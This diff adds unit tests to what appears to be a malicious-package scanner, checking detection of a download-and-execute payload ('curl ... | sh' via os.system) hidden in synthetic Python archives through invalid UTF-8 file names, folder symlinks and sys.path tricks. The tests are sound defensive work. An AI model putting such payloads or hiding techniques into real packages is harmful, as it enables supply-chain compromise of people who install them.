@@ -69,6 +69,25 @@ TEST_F(ScannerTest, ModuleNamedOutsideAsciiIsAnalysed) {
   for (const Finding& f : r.findings) EXPECT_EQ(f.file, evil) << f.rule;
 }
 
+TEST_F(ScannerTest, ZipNameFlaggedUtf8ButInvalidIsStillAnalysed) {
+  // libarchive gives such a member no name: it was read as a nameless file
+  // and its code never reached the Python checks.
+  std::string whl = testing::MakeRawZip(
+      {File("pkg/__init__.py", "from . import m\n"),
+       File("pkg/\xff.py", "import os\nos.system('curl -s http://203.0.113.9/x | sh')\n"),
+       File("pkg-1.0.dist-info/METADATA", "Name: pkg\nVersion: 1.0\n")},
+      {}, /*utf8_names=*/true);
+  Scanner full(&testing::Rules(), {});
+  ScanResult r = full.ScanBytes("pkg-1.0-py3-none-any.whl", "pkg-1.0-py3-none-any.whl", whl);
+  auto on = [&](const std::string& rule) {
+    return std::any_of(r.findings.begin(), r.findings.end(), [&](const Finding& f) {
+      return f.rule == rule && f.file == "pkg/\\xff.py";
+    });
+  };
+  EXPECT_TRUE(on("download-exec"));
+  EXPECT_TRUE(on("archive-invalid-name"));
+}
+
 TEST_F(ScannerTest, WheelPosingAsATarball) {
   std::string whl = testing::MakeZip({File("ok/__init__.py", "")});
   ScanResult r = scanner_.ScanBytes("ok-1.0.tar.gz", "ok-1.0.tar.gz", whl);
@@ -172,6 +191,69 @@ TEST_F(ScannerTest, PythonModuleRunBySetupIsInstallTimeCode) {
   EXPECT_FALSE(
       at_install(scanner_.ScanBytes("p-1.tar.gz", "p-1.tar.gz", elsewhere), "p-1/lib/gen.py"))
       << "the same base name in another folder is another file";
+}
+
+// An sdist's folder link (p-1.0/mypkg -> lib/mypkg) makes the modules of
+// the folder it names importable under the link's name: the ones the
+// package's __init__.py imports are import-time code there.
+TEST_F(ScannerTest, ModuleImportedThroughAFolderLinkIsImportTimeCode) {
+  const std::string payload = "import os\nos.system('curl -s http://203.0.113.9/x | sh')\n";
+  std::string tgz = testing::MakeTar(
+      {File("p-1.0/setup.py", "from setuptools import setup\nsetup(name='p')\n"),
+       File("p-1.0/lib/mypkg/__init__.py", "from .core import run\n"),
+       File("p-1.0/lib/mypkg/core.py", payload),
+       File("p-1.0/lib/mypkg/unused.py", payload),
+       testing::Entry{"p-1.0/mypkg", "", testing::Entry::kSymlink, "lib/mypkg"}});
+  Scanner full(&testing::Rules(), {});
+  ScanResult r = full.ScanBytes("p-1.0.tar.gz", "p-1.0.tar.gz", tgz);
+  auto has = [&](const std::string& rule, const std::string& file, Phase phase) {
+    return std::any_of(r.findings.begin(), r.findings.end(), [&](const Finding& f) {
+      return f.rule == rule && f.file == file && f.phase == phase;
+    });
+  };
+  EXPECT_TRUE(has("download-exec", "p-1.0/mypkg/core.py", Phase::kImport));
+  EXPECT_TRUE(has("archive-link-code", "p-1.0/mypkg/core.py", Phase::kImport));
+  EXPECT_TRUE(has("archive-link-code", "p-1.0/mypkg/__init__.py", Phase::kImport));
+  for (const Finding& f : r.findings)
+    EXPECT_NE(f.file, "p-1.0/mypkg/unused.py") << "nothing imports it: read by its own name only";
+  EXPECT_TRUE(std::any_of(r.findings.begin(), r.findings.end(), [](const Finding& f) {
+    return f.file == "p-1.0/lib/mypkg/unused.py" && f.phase == Phase::kRuntime;
+  }));
+}
+
+// A module that puts a folder of the package on sys.path and then imports a
+// module by its bare name runs that folder's file at its own time.
+TEST_F(ScannerTest, ModuleImportedFromAFolderPutOnSysPathRunsThen) {
+  const std::string payload = "import os\nos.system('curl -s http://203.0.113.9/x | sh')\n";
+  Scanner full(&testing::Rules(), {});
+  auto phase_of = [&](const std::string& tgz, const std::string& file) {
+    ScanResult r = full.ScanBytes("p-1.0.tar.gz", "p-1.0.tar.gz", tgz);
+    Phase p = Phase::kNone;
+    for (const Finding& f : r.findings)
+      if (f.file == file && f.rule == "download-exec") p = f.phase;
+    return p;
+  };
+  std::string setup = testing::MakeTar(
+      {File("p-1.0/setup.py",
+            "import sys\nsys.path.insert(0, 'tools')\nimport helper\n"
+            "from setuptools import setup\nsetup(name='p')\n"),
+       File("p-1.0/tools/helper.py", payload)});
+  EXPECT_EQ(phase_of(setup, "p-1.0/tools/helper.py"), Phase::kInstall);
+  std::string init = testing::MakeTar(
+      {File("p-1.0/setup.py", "from setuptools import setup\nsetup(name='p')\n"),
+       File("p-1.0/p/__init__.py",
+            "import os, sys\n"
+            "sys.path.append(os.path.join(os.path.dirname(__file__), 'vendor'))\n"
+            "from helper import main\n"),
+       File("p-1.0/p/vendor/helper.py", payload)});
+  EXPECT_EQ(phase_of(init, "p-1.0/p/vendor/helper.py"), Phase::kImport);
+  std::string other = testing::MakeTar(
+      {File("p-1.0/setup.py",
+            "import sys\nsys.path.insert(0, 'tools')\nimport helper\n"
+            "from setuptools import setup\nsetup(name='p')\n"),
+       File("p-1.0/lib/helper.py", payload)});
+  EXPECT_EQ(phase_of(other, "p-1.0/lib/helper.py"), Phase::kRuntime)
+      << "a folder not put on sys.path";
 }
 
 // A script the package installs on PATH (a wheel's .data/scripts/) that
